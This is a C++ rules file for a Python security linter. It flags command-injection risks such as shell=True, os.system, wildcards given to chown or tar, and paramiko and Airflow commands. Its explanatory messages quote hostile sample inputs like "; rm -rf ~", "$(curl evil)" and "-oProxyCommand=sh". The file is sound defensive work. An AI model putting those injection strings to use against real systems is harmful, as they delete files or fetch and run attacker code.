// Programs that are started, and the shells that may stand between.

#include <algorithm>
#include <array>
#include <cctype>

#include "engine/core/rule.h"
#include "engine/rules/command/formatted_command.h"
#include "engine/rules/command/process_calls.h"
#include "engine/rules/site.h"
#include "engine/rules/values.h"

namespace meerkat::rules::command {
namespace {

using core::Confidence;
using core::kFires;
using core::kSilent;
using core::OnCall;
using core::OnFlow;
using core::OnImport;
using core::Rule;
using core::Severity;
using core::SinkKind;
using core::Verdict;
using syntax::Call;
using syntax::Kind;
using syntax::Node;

constexpr std::string_view kShellWord[] = {"shell$"};
constexpr std::string_view kSubprocessModule[] = {"subprocess"};
// All of the above.
constexpr auto kProcess = [] {
  std::array<std::string_view, std::size(kSubprocess) + std::size(kShell) + std::size(kNoShell)>
      all;
  auto end = std::copy(std::begin(kSubprocess), std::end(kSubprocess), all.begin());
  end = std::copy(std::begin(kShell), std::end(kShell), end);
  std::copy(std::begin(kNoShell), std::end(kNoShell), end);
  return all;
}();
constexpr auto kShells = [] {
  std::array<std::string_view, std::size(kSubprocess) + std::size(kShell)> all;
  auto end = std::copy(std::begin(kSubprocess), std::end(kSubprocess), all.begin());
  std::copy(std::begin(kShell), std::end(kShell), end);
  return all;
}();
constexpr std::string_view kAsyncShell[] = {"asyncio.create_subprocess_shell",
                                            "asyncio.subprocess.create_subprocess_shell"};
constexpr std::string_view kParamikoWords[] = {"paramiko"};
constexpr std::string_view kExecCommand[] = {"*.exec_command", "exec_command"};

// subprocess.run(f"ping {host}", shell=True)
Verdict WhenShell(const Site& site) {
  const Call call = site.call();
  if (!AsksForShell(call) || !call.Positional(0)) return kSilent;
  return {.fires = true,
          .severity = IsText(call.Positional(0)) ? Severity::kLow : Severity::kHigh,
          .shown_at = call.Keyword("shell").index()};
}

// subprocess.run(["ping", host])
Verdict WhenNoShell(const Site& site) {
  const Node shell = site.call().Keyword("shell");
  if (MaySwitchOn(shell)) return kSilent;
  return {.fires = true, .shown_at = shell ? shell.index() : core::kNoNode};
}

// A reviewer looks at a program that is chosen at run time: run([tool, "-v"]),
// run(command.split()).
bool IsProgramFixed(const Site& site) {
  if (IsInTests(site)) return true;
  const Node command = site.call().Argument(0, "args");
  switch (command.kind()) {
    case Kind::kList:
    case Kind::kTuple: return IsFixed(command.first_child());
    case Kind::kBinaryOperator:
    case Kind::kCall: return IsFixed(command);
    default: return true;
  }
}

// execute("ls", shell=True), whatever `execute` is
Verdict WhenOtherShell(const Site& site) {
  const Node shell = site.call().Keyword("shell");
  if (!shell || !MaySwitchOn(shell) || IsSubprocess(site)) return kSilent;
  // shell=shell passes on what its own caller decided.
  if (!site.as_bandit() && !syntax::IsConstant(shell)) return kSilent;
  return {.fires = true, .shown_at = shell.index()};
}

// os.system("ping " + host)
Verdict WhenCommand(const Site& site) {
  const Node command = site.call().Positional(0);
  if (!command) return kSilent;
  return {.fires = true, .severity = IsText(command) ? Severity::kLow : Severity::kHigh};
}

bool IsCommandFixed(const Site& site) { return IsFixed(site.call().Positional(0)); }

// subprocess.run(["git", "status"]); not "/usr/bin/git", "./git" or "C:\\git.exe"
Verdict WhenPartialPath(const Site& site) {
  const Node program = ProgramOf(site.call());
  if (!IsText(program)) return kSilent;
  const std::string path = TextOf(program);
  const bool drive =
      path.size() > 1 && path[1] == ':' && std::isalpha(static_cast<uint8_t>(path[0]));
  const bool full =
      drive || path.starts_with('\\') || path.starts_with('/') || path.starts_with('.');
  return full ? kSilent : kFires;
}

void AppendElements(Node list, int depth, std::string* text) {
  if (depth == 0) return;
  for (Node element : list.children()) {
    *text += ' ';
    if (element.kind() == Kind::kList || element.kind() == Kind::kTuple) {
      AppendElements(element, depth - 1, text);
    } else if (!syntax::ConstantString(element, text) &&
               (syntax::IsConstant(element) || element.kind() == Kind::kIdentifier)) {
      *text += element.text();
    }
  }
}

// os.system("chown root *"): a file named "--reference=x" becomes an option.
Verdict WhenWildcard(const Site& site) {
  const Call call = site.call();
  const Node shell = call.Keyword("shell");
  if (IsSubprocess(site) && !ReadsAs(shell, "True")) return kSilent;
  const Node command = call.Positional(0);
  std::string text;
  if (command.kind() == Kind::kList) {
    AppendElements(command, /*depth=*/16, &text);
  } else if (!syntax::ConstantString(command, &text)) {
    return kSilent;
  }
  if (text.find('*') == std::string::npos) return kSilent;
  for (std::string_view tool : {"chown", "chmod", "tar", "rsync"}) {
    if (text.find(tool) == std::string::npos) continue;
    return {.fires = true, .shown_at = shell ? shell.index() : core::kNoNode, .detail = tool};
  }
  return kSilent;
}

// client.exec_command(f"ls {folder}")
Verdict WhenParamiko(const Site& site) { return site.ImportsLike("paramiko") ? kFires : kSilent; }

constexpr std::string_view kBashOperators[] = {"*.BashOperator"};
constexpr std::string_view kAirflowWords[] = {"airflow"};

constexpr Rule kRules[] = {
    {
        .name = "subprocess-shell",
        .bandit_id = "B602",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kHigh,
        .confidence = Confidence::kHigh,
        .message = "the command is run by a shell",
        .why =
            "Text from outside in the command, such as \"; rm -rf ~\" or \"$(curl evil)\", is run "
            "with the rights of this process.",
        .fix = "subprocess.run([\"ping\", \"-c1\", host], check=True)  # a list, and no shell=True",
        .match = OnCall{.callees = kSubprocess, .near = kShellWord, .when = WhenShell},
        .quiet = IsCommandFixed,
        .decided_by = core::Bit(SinkKind::kCommand),
    },
    {
        .name = "subprocess-call",
        .bandit_id = "B603",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kLow,
        .confidence = Confidence::kHigh,
        .message =
            "a process is started: check that nobody outside chooses the program or its options",
        .why =
            "Whoever chooses the program runs what he likes; whoever chooses an argument may give "
            "an option such as \"--output=/etc/passwd\".",
        .fix = "subprocess.run([\"/usr/bin/git\", \"log\", \"--\", path], check=True)  # fixed "
               "program, \"--\" before arguments",
        .match = OnCall{.callees = kSubprocess, .when = WhenNoShell},
        .quiet = IsProgramFixed,
        .decided_by = core::Bit(SinkKind::kCommand),
    },
    {
        .name = "shell-argument",
        .bandit_id = "B604",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kMedium,
        .confidence = Confidence::kLow,
        .message = "a function is called with shell=True",
        .why = "If it passes that on to subprocess, text from outside in the command is run by a "
               "shell.",
        .fix = "run([\"ls\", folder])  # a list, and no shell=True",
        .match = OnCall{.near = kShellWord, .when = WhenOtherShell},
        .decided_by = core::Bit(SinkKind::kCommand),
    },
    {
        .name = "shell-command",
        .bandit_id = "B605",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kHigh,
        .confidence = Confidence::kHigh,
        .message = "the command is run by a shell",
        .why =
            "Text from outside in the command, such as \"; rm -rf ~\" or \"$(curl evil)\", is run "
            "with the rights of this process.",
        .fix = "subprocess.run([\"tar\", \"-xf\", archive], check=True)",
        .match = OnCall{.callees = kShell, .when = WhenCommand, .handed_on = true},
        .quiet = IsCommandFixed,
        .decided_by = core::Bit(SinkKind::kCommand),
    },
    {
        .name = "process-start",
        .bandit_id = "B606",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kLow,
        .confidence = Confidence::kMedium,
        .message =
            "a process is started without a shell: check that nobody outside chooses the program",
        .why = "Whoever chooses the program or its options runs what he likes with the rights of "
               "this process.",
        .fix = "subprocess.run([\"/usr/bin/less\", path], check=True)  # fixed program",
        .match = OnCall{.callees = kNoShell},
        .quiet = IsCommandFixed,
        .decided_by = core::Bit(SinkKind::kCommand),
    },
    {
        .name = "partial-executable-path",
        .bandit_id = "B607",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kLow,
        .confidence = Confidence::kHigh,
        .message = "the program is looked for in the folders of PATH",
        .why =
            "Whoever can set PATH, or write into one of its folders, chooses which program runs.",
        .fix = "subprocess.run([\"/usr/bin/git\", \"status\"], check=True)",
        .profiles = core::kBanditProfile | core::kAllProfile,
        .match = OnCall{.callees = kProcess, .when = WhenPartialPath},
    },
    {
        .name = "subprocess-import",
        .bandit_id = "B404",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kLow,
        .confidence = Confidence::kHigh,
        .message = "subprocess is imported: its calls deserve a look",
        .why =
            "Processes that are started with text from outside are the way to command injection.",
        .fix = "shutil.copytree(source, target)  # what the standard library does needs no process",
        .profiles = core::kBanditProfile | core::kAllProfile,
        .match = OnImport{.modules = kSubprocessModule},
    },
    {
        .name = "wildcard-in-command",
        .bandit_id = "B609",
        .cwe = 155,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kHigh,
        .confidence = Confidence::kMedium,
        .message = "{} gets a wildcard from a shell",
        .why =
            "A file whose name looks like an option, such as \"--reference=x\", is taken for one: "
            "whoever can create files there decides what the command does.",
        .fix = "subprocess.run([\"chown\", \"root\", \"--\", *glob.glob(\"./*\")], check=True)",
        .match = OnCall{.callees = kShells, .when = WhenWildcard},
    },
    {
        .name = "async-shell",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kHigh,
        .confidence = Confidence::kHigh,
        .message = "the command is run by a shell",
        .why =
            "Text from outside in the command, such as \"; rm -rf ~\" or \"$(curl evil)\", is run "
            "with the rights of this process.",
        .fix = "await asyncio.create_subprocess_exec(\"ping\", \"-c1\", host)",
        .profiles = core::kDefaultProfile | core::kAllProfile,
        .match = OnCall{.callees = kAsyncShell, .when = WhenCommand},
        .quiet = IsCommandFixed,
        .decided_by = core::Bit(SinkKind::kCommand),
    },
    {
        .name = "ssh-command",
        .bandit_id = "B601",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kMedium,
        .confidence = Confidence::kMedium,
        .message = "a command is run by a shell on another host",
        .why = "Text from outside in the command is run there with the rights of the login.",
        .fix = "client.exec_command(\"ls -- \" + shlex.quote(folder))",
        .match = OnCall{.callees = kExecCommand, .words = kParamikoWords, .when = WhenParamiko},
        .quiet = IsCommandFixed,
        .decided_by = core::Bit(SinkKind::kCommand),
    },
    {
        .name = "command-injection",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kHigh,
        .confidence = Confidence::kHigh,
        .message = "text from outside decides what command is run: {}",
        .why = "Text such as \"; rm -rf ~\" or \"$(curl evil)\", or the name of another "
               "program, is run with the rights of this process.",
        .fix = "subprocess.run([\"/usr/bin/ping\", \"-c1\", \"--\", host], check=True)  # "
               "fixed program, a list, no shell",
        .profiles = core::kDefaultProfile | core::kAllProfile,
        .match = OnFlow{.from = core::kOutside, .to = SinkKind::kCommand},
    },
    {
        .name = "argument-injection",
        .cwe = 88,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kMedium,
        .confidence = Confidence::kHigh,
        .message = "text from outside is an argument of a program, which may take it for an "
                   "option: {}",
        .why = "A value such as \"--output=/etc/cron.d/x\" or \"-oProxyCommand=sh\" is an "
               "option to many programs: it writes files or runs commands.",
        .fix = "subprocess.run([\"/usr/bin/git\", \"log\", \"--\", path], check=True)  # "
               "what follows \"--\" is no option",
        .profiles = core::kDefaultProfile | core::kAllProfile,
        .match = OnFlow{.from = core::kOutside, .to = SinkKind::kArgument},
    },
    {
        .name = "formatted-bash-operator",
        .cwe = 78,
        .owasp_2021 = "A03:2021",
        .owasp_2025 = "A05:2025",
        .cheat_sheet = "OS_Command_Injection_Defense",
        .severity = Severity::kMedium,
        .confidence = Confidence::kMedium,
        .message = "the command of the task is put together as text, and a shell runs it",
        .why = "Whoever chooses a part of it, in a variable or what starts the run, runs what he "
               "likes on a worker.",
        .fix = "BashOperator(bash_command=\"ls \\\"$FOLDER\\\"\", env={\"FOLDER\": folder})",
        .profiles = core::kDefaultProfile | core::kAllProfile,
        .match =
            OnCall{.callees = kBashOperators, .words = kAirflowWords, .when = WhenBashIsFormatted},
        .told_by = core::Bit(SinkKind::kCommand),
    },
};
static_assert(core::WellFormed(kRules));

}  // namespace

std::span<const Rule> Rules() { return kRules; }

}  // namespace meerkat::rules::command
